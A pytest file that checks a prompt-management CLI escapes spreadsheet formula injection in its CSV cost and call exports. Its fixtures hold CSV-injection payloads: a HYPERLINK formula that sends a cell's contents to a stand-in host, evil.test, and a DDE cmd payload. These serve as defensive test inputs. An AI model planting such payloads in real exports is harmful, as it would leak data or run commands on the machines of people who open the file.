"""`costs --format csv` cannot plant formulas in the reader's spreadsheet.

Tags and prompt ids come from prompt files, which pull requests control; they reach the
ledger through a real `promptctl test` run against the fake server, then the CSV export.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from fakes.cli import run
from fakes.llm_server import FakeLLM
from promptctl.report.costs import safe_csv_cell

TAGS = {
    '=HYPERLINK("http://evil.test/?q="&A1,"details")': "'=",
    "+1+cmd|' /C calc'!A0": "'+",
    "-2+3": "'-",
    "@SUM(A1:A9)": "'@",
    "\tindented=1": "'\t",
    "\rsplit": "'\n",  # prefixed, and the CR a quoted newline
    "plain-tag": "p",  # a dash inside is not a formula
    "x\r=HYPERLINK(1)": "x",  # a bare CR would start a new row with a formula
}

PROMPT = """\
id: demo/tagged
version: 1.0.0
tags: [{tags}]
model:
  use: openai/gpt-4o-mini
messages:
  - user: "hello"
tests:
  - name: greets
    assert: [{{type: contains, value: hi}}]
"""


def _tagged_project(tmp_path: Path, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch) -> None:
    """A project whose one prompt carries every tag of TAGS, on the fake server."""
    (tmp_path / "prompts" / "demo").mkdir(parents=True)
    tags = ", ".join(json.dumps(t) for t in TAGS)  # JSON strings are YAML strings
    (tmp_path / "prompts" / "demo" / "tagged.yaml").write_text(PROMPT.format(tags=tags))
    (tmp_path / "promptctl.yaml").write_text(
        "providers:\n"
        f"  openai: {{kind: openai, base_url: '{fake_llm.openai_base}',"
        " api_key_env: OPENAI_API_KEY, max_retries: 0}\n"
    )
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-csv-0123456789abcdef")
    monkeypatch.chdir(tmp_path)


def test_costs_csv_neutralises_formula_cells(
    tmp_path: Path,
    fake_llm: FakeLLM,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _tagged_project(tmp_path, fake_llm, monkeypatch)
    fake_llm.reply("hi there")
    code, _, err = run(["test"], monkeypatch, capsys)
    assert code == 0, err
    code, out, err = run(["costs", "--by", "tag", "--format", "csv"], monkeypatch, capsys)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 1 + len(TAGS) + 1  # header, one row per tag, total
    assert rows[0][0] == "tag"
    keys = [row[0] for row in rows[1:-1]]  # the last row is the total
    assert sorted(keys) == sorted(safe_csv_cell(t) for t in TAGS)
    for tag, start in TAGS.items():
        assert safe_csv_cell(tag).startswith(start), tag
    assert all(not k.startswith(("=", "+", "-", "@", "\t", "\r")) for k in keys)
    assert not any("\r" in k for k in keys)
    numbers = [cell for row in rows[1:] for cell in row[1:] if cell]
    assert all(not n.startswith("'") for n in numbers)  # our own numbers stay numbers


def test_calls_csv_neutralises_formula_cells(
    tmp_path: Path,
    fake_llm: FakeLLM,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`calls --format csv`, the other CSV writer: before, its cells went out as they
    were. The tags are the prompt file's; the model's name is the provider's own text."""
    _tagged_project(tmp_path, fake_llm, monkeypatch)
    fake_llm.raw(
        {
            "id": "x",
            "object": "chat.completion",
            "model": '=HYPERLINK("http://evil.test","model")',
            "choices": [
                {"index": 0, "message": {"role": "assistant", "content": "hi"},
                 "finish_reason": "stop"}
            ],
            "usage": {"prompt_tokens": 3, "completion_tokens": 1},
        },
        wire="openai",
    )  # fmt: skip
    code, _, err = run(["test"], monkeypatch, capsys)
    assert code == 0, err
    code, out, err = run(["calls", "--format", "csv"], monkeypatch, capsys)
    assert code == 0, err
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    (row,) = rows
    cell = dict(zip(header, row, strict=True))
    assert cell["model_reported"] == "'" + '=HYPERLINK("http://evil.test","model")'
    assert cell["tags"].startswith("'=HYPERLINK")  # the first tag starts the joined cell
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
    assert float(cell["cost_usd"]) > 0  # numbers stay numbers
